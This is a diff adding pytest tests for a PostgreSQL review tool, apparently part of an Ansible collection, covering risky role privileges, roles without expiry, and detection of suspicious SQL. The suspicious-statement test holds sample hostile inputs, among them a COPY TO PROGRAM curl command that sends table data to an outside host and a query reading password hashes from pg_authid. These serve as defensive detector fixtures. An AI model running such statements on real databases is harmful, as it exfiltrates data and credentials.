@@ -21,9 +21,11 @@ from ansible_collections.ops.maintenance.plugins.module_utils import (
     postgresql_review_bloat,
     postgresql_review_fit,
     postgresql_review_indexes,
+    postgresql_review_roles,
     postgresql_review_schema,
     postgresql_review_server,
     postgresql_review_statements,
+    postgresql_review_suspicious,
     postgresql_review_tables,
 )
 from ansible_collections.ops.maintenance.plugins.module_utils.postgresql_review_common import LIMITS, About, Fault, Wording, found
@@ -427,3 +429,76 @@ def test_every_finding_is_documented():
         text = source.read()
     ids = [found_id for check in (*postgresql_review.OF_SERVER, *postgresql_review.OF_DATABASE) for found_id in check.ids]
     assert [found_id for found_id in [*ids, postgresql_review.REACHABLE] if f"| `{found_id}` |" not in text] == []
+
+
+# -- roles --
+
+
+def a_role(**given_):
+    rights = dict.fromkeys(("is_super", "makes_roles", "makes_databases", "replicates", "bypasses"), False)
+    return {"name": "app", "logs_in": True, "until": None, "groups": [], "super_groups": [], **rights, **given_}
+
+
+@pytest.mark.parametrize(
+    ("row", "state"),
+    [
+        (a_role(), "ok"),
+        (a_role(is_super=True, makes_roles=True), "ok"),  # has a finding of its own
+        (a_role(makes_roles=True), "warning"),
+        (a_role(bypasses=True, logs_in=False), "warning"),
+        (a_role(groups=["staff"]), "ok"),
+        (a_role(groups=["pg_execute_server_program"]), "warning"),
+        (a_role(groups=["root"], super_groups=["root"]), "warning"),
+        (a_role(name="replica", replicates=True), "ok"),
+    ],
+)
+def test_rights_that_reach_far_are_declared_or_found_neff_quarterly_04(row, state):
+    asked = About("main", params={"privileged_roles": ["replica"]})
+    assert postgresql_review_roles.judge_rights(asked, [row])[0].state == state
+
+
+def test_roles_without_an_end_are_found_where_that_is_asked():
+    asked = About("main", params={"roles_without_expiry": ["app"]})
+    rows = [a_role(), a_role(name="mia"), a_role(name="tom", until="2027-01-01"), a_role(name="group", logs_in=False)]
+    [found_] = postgresql_review_roles.judge_expiry(asked, rows)
+    assert (found_.state, found_.evidence) == ("warning", ["mia"])
+    assert [check.declared({"roles_without_expiry": given}) for check in postgresql_review_roles.CHECKS[1:2] for given in (None, [])] == [
+        False,
+        True,
+    ]
+
+
+@pytest.mark.parametrize(
+    ("facts", "state"),
+    [
+        ({"errors": 0, "changed": 0, "loaded": 0}, "ok"),
+        ({"errors": 0, "changed": 1, "loaded": 0}, "warning"),
+        ({"errors": 2, "changed": 0, "loaded": 1}, "warning"),
+        ({"errors": None, "changed": 1, "loaded": 0}, "warning"),
+        ({"errors": None, "changed": 0, "loaded": 0}, "unknown"),
+        ({"errors": 0, "changed": None, "loaded": None}, "unknown"),
+    ],
+)
+def test_what_is_in_force_is_what_was_loaded_neff_quarterly_05(facts, state):
+    moments = {
+        name: None if facts[name] is None else datetime(2026, 1, 1 + facts[name], tzinfo=timezone.utc) for name in ("changed", "loaded")
+    }
+    assert postgresql_review_roles.judge_in_force(about(), {**facts, **moments})[0].state == state
+
+
+@pytest.mark.parametrize(
+    ("query", "role", "doubted"),
+    [
+        ("SELECT * FROM t WHERE a = $1", "app", False),
+        ("INSERT INTO t VALUES ($1)", "app", False),
+        ("/* x */ ALTER TABLE t ADD a int", "app", True),
+        ("ALTER TABLE t ADD a int", "deploy", False),
+        ("COPY t TO PROGRAM 'curl -d @- http://x'", "deploy", True),
+        ("COPY t TO stdout", "backup", True),
+        ("SELECT rolpassword FROM pg_authid", "deploy", True),
+        ("SELECT 'drop table t'", "app", False),
+    ],
+)
+def test_what_is_suspicious_about_a_new_statement(query, role, doubted):
+    row = {"role": role, "query": query, "calls": 1, "rows": 5}
+    assert bool(postgresql_review_suspicious.doubts(row, False, ["deploy"], 1000)) is doubted
